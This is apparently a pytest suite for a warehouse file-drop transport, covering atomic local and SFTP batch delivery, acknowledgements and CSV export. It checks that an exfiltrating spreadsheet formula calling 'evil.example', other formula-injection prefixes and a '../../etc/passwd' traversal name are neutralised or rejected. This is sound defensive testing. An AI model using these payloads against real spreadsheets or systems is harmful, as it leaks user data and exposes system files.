"""File drop (B14): one file per batch, atomic, under its final name only; acknowledgements (channels/filedrop.py)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import asyncssh
import pytest

from sellerbridge.channels import batchfiles
from sellerbridge.channels.filedrop import LocalDropTransport, SftpDropTransport
from tests.channels.messages import local_receiver, message, sftp_receiver
from tests.support.sftp_server import SftpTestServer

NOW = datetime(2026, 12, 2, 10, 0, 0, tzinfo=UTC)


class Clock:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_b14_local_batch_is_one_complete_file_with_private_modes(tmp_path) -> None:
    clock = Clock()
    drop = LocalDropTransport(clock)
    receiver = local_receiver(tmp_path / "wms")
    attempt = drop.send(receiver, [message(17), message(18)])
    assert attempt.ok and not attempt.acknowledged and attempt.batch_name == "20261202T100000Z-3-17"
    assert attempt.excerpt == "orders/20261202T100000Z-3-17.json"
    orders = tmp_path / "wms" / "orders"
    assert [p.name for p in orders.iterdir()] == ["20261202T100000Z-3-17.json"]  # no temporary name left
    document = json.loads((orders / "20261202T100000Z-3-17.json").read_bytes())
    assert document["schema"] == "sellerbridge.warehouse.batch/1" and document["batch"] == attempt.batch_name
    assert [m["message_id"] for m in document["messages"]] == ["d-17", "d-18"]
    assert (orders / "20261202T100000Z-3-17.json").stat().st_mode & 0o777 == 0o600
    assert orders.stat().st_mode & 0o777 == 0o700 and (tmp_path / "wms").stat().st_mode & 0o777 == 0o700

    clock.now += timedelta(seconds=1)
    second = drop.send(receiver, [message(19)])
    assert second.ok and second.batch_name == "20261202T100001Z-3-19"
    assert sorted(p.name for p in orders.iterdir()) == [attempt.excerpt[7:], second.excerpt[7:]]


def test_b14_batch_names_sort_by_time_and_are_unique_per_receiver_and_delivery() -> None:
    names = [batchfiles.batch_name(NOW + timedelta(seconds=s), r, d) for s, r, d in [(0, 1, 5), (0, 2, 5), (1, 1, 6)]]
    assert len(set(names)) == 3 and names[2] > names[0]
    assert all(batchfiles.is_batch_name(name) for name in names) and not batchfiles.is_batch_name("../x")


def test_b14_local_acknowledgement_by_ack_file_or_done_directory(tmp_path) -> None:
    drop = LocalDropTransport(Clock())
    receiver = local_receiver(tmp_path / "wms")
    first = drop.send(receiver, [message(1)]).batch_name
    clock_two = Clock()
    clock_two.now += timedelta(minutes=1)
    second = LocalDropTransport(clock_two).send(receiver, [message(2)]).batch_name
    assert drop.acknowledged(receiver, [first, second]) == []
    (tmp_path / "wms" / "ack").mkdir()
    (tmp_path / "wms" / "ack" / f"{first}.ack").write_text("")
    assert drop.acknowledged(receiver, [first, second]) == [first]
    (tmp_path / "wms" / "orders" / "done").mkdir()
    (tmp_path / "wms" / "orders" / f"{second}.json").rename(tmp_path / "wms" / "orders" / "done" / f"{second}.json")
    assert drop.acknowledged(receiver, [first, second, "../../etc/passwd"]) == [first, second]


def test_b14_csv_round_trips_unicode_and_neutralises_formulas(tmp_path) -> None:
    receiver = local_receiver(tmp_path / "wms", file_format="csv")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    attempt = LocalDropTransport(Clock()).send(receiver, [message(7), message(8, title=formula, sku="@SUM(1)",
                                                                            lines=1)])
    data = (tmp_path / "wms" / "orders" / f"{attempt.batch_name}.csv").read_bytes()
    assert data.split(b"\r\n")[0].decode() == ",".join(batchfiles.CSV_COLUMNS)  # header first, CRLF
    rows = read_csv(data)
    assert [row["order_item_id"] for row in rows] == ["7-0", "7-1", "8-0"]  # one row per order line
    assert rows[0]["title"] == "Widget® café 東京 😀" and rows[0]["ship_to_name"] == "Zoë Ångström 山田 🚀"
    assert rows[0]["ship_to_city"] == "Montréal" and rows[0]["quantity"] == "1" and rows[1]["quantity"] == "2"
    assert rows[2]["title"] == "'" + formula and rows[2]["sku"] == "'@SUM(1)"
    assert rows[0]["ship_to_phone"] == "'+1 514 555 0100"  # a leading + is a formula to a spreadsheet


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@cmd", "\tx", "\rx"])
def test_b14_every_formula_start_is_neutralised(text: str) -> None:
    assert batchfiles.neutralised(text) == "'" + text
    assert batchfiles.neutralised("plain =1") == "plain =1" and batchfiles.neutralised(None) == ""


def test_b13_withheld_messages_have_empty_ship_to_columns(tmp_path) -> None:
    receiver = local_receiver(tmp_path / "wms", file_format="csv")
    attempt = LocalDropTransport(Clock()).send(receiver, [message(9, pii=False)])
    data = (tmp_path / "wms" / "orders" / f"{attempt.batch_name}.csv").read_bytes()
    rows = read_csv(data)
    assert rows and all(row["pii"] == "withheld" for row in rows)
    assert all(value == "" for row in rows for key, value in row.items() if key.startswith("ship_to_"))
    assert "Zoë".encode() not in data


def test_b14_an_order_without_lines_still_gets_a_row() -> None:
    rows = read_csv(batchfiles.render_csv([message(3, lines=0, topic="order.cancelled")]))
    assert len(rows) == 1 and rows[0]["topic"] == "order.cancelled" and rows[0]["order_item_id"] == ""


def test_b14_local_unwritable_directory_is_a_failed_attempt(tmp_path) -> None:
    (tmp_path / "a-file").write_text("not a directory")
    attempt = LocalDropTransport(Clock()).send(local_receiver(tmp_path / "a-file"), [message(1)])
    assert not attempt.ok and not attempt.acknowledged and attempt.batch_name is None
    assert "cannot write" in attempt.excerpt
    missing = LocalDropTransport(Clock()).send(local_receiver(""), [message(1)])
    assert not missing.ok and "no directory" in missing.excerpt
    unknown = LocalDropTransport(Clock()).send(local_receiver(tmp_path, file_format="xml"), [message(1)])
    assert not unknown.ok and "file format" in unknown.excerpt


def test_b14_sftp_batch_appears_under_its_final_name_only(sftp_server: SftpTestServer) -> None:
    clock = Clock()
    drop = SftpDropTransport(clock)
    receiver = sftp_receiver(sftp_server, file_format="csv")
    first = drop.send(receiver, [message(21), message(22)])
    assert first.ok and not first.acknowledged and first.batch_name == "20261202T100000Z-4-21"
    orders = sftp_server.root / "wms" / "orders"
    assert [p.name for p in orders.iterdir()] == ["20261202T100000Z-4-21.csv"]  # never a .part at the end
    assert [row["message_id"] for row in read_csv((orders / "20261202T100000Z-4-21.csv").read_bytes())] == [
        "d-21", "d-21", "d-22", "d-22"]
    clock.now += timedelta(seconds=5)
    second = drop.send(receiver, [message(23)])
    assert second.ok and second.batch_name == "20261202T100005Z-4-23" != first.batch_name
    assert sorted(p.name for p in orders.iterdir()) == ["20261202T100000Z-4-21.csv", "20261202T100005Z-4-23.csv"]


def test_b14_sftp_ack_file_is_reported_acknowledged(sftp_server: SftpTestServer) -> None:
    drop = SftpDropTransport(Clock())
    receiver = sftp_receiver(sftp_server)
    batch = drop.send(receiver, [message(31)]).batch_name
    assert drop.acknowledged(receiver, [batch]) == []
    (sftp_server.root / "wms" / "ack").mkdir()
    (sftp_server.root / "wms" / "ack" / f"{batch}.ack").write_text("ok")
    assert drop.acknowledged(receiver, [batch, "20261202T100000Z-4-99"]) == [batch]


def test_b14_sftp_wrong_host_key_is_a_failed_attempt(sftp_server: SftpTestServer) -> None:
    other = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode()
    attempt = SftpDropTransport(Clock()).send(sftp_receiver(sftp_server, host_key=other), [message(1)])
    assert not attempt.ok and "pinned" in attempt.excerpt and sftp_server.host_fingerprint in attempt.excerpt
    assert not (sftp_server.root / "wms").exists()


def test_b14_sftp_wrong_password_is_a_failed_attempt_without_the_password(sftp_server: SftpTestServer) -> None:
    receiver = sftp_receiver(sftp_server, secrets={"password": "wrong-password-123"})
    attempt = SftpDropTransport(Clock()).send(receiver, [message(1)])
    assert not attempt.ok and "refused the login" in attempt.excerpt and "wrong-password-123" not in attempt.excerpt
    assert "wrong-password-123" not in repr(receiver)


def test_b14_sftp_server_down_is_a_failed_attempt_not_an_exception(sftp_server: SftpTestServer) -> None:
    receiver = sftp_receiver(sftp_server)
    drop = SftpDropTransport(Clock())
    sftp_server.stop()
    attempt = drop.send(receiver, [message(1)])
    assert not attempt.ok and "cannot be reached" in attempt.excerpt and attempt.duration_ms >= 0
    assert drop.acknowledged(receiver, ["20261202T100000Z-4-1"]) == []  # asked again later
    sftp_server.start()
    assert drop.send(receiver, [message(1)]).ok


def test_b14_check_probes_a_receiver_without_leaving_a_file(tmp_path, sftp_server: SftpTestServer) -> None:
    local = LocalDropTransport(Clock()).check(local_receiver(tmp_path / "wms"))
    assert local.ok and list((tmp_path / "wms" / "orders").iterdir()) == []
    (tmp_path / "a-file").write_text("")
    assert not LocalDropTransport(Clock()).check(local_receiver(tmp_path / "a-file")).ok

    remote = SftpDropTransport(Clock()).check(sftp_receiver(sftp_server, inbox="/wms"))
    assert remote.ok and "writable" in remote.excerpt
    assert list((sftp_server.root / "wms" / "orders").iterdir()) == []
    refused = SftpDropTransport(Clock()).check(sftp_receiver(sftp_server, secrets={"password": "nope-nope"}))
    assert not refused.ok and "refused the login" in refused.excerpt and "nope-nope" not in refused.excerpt
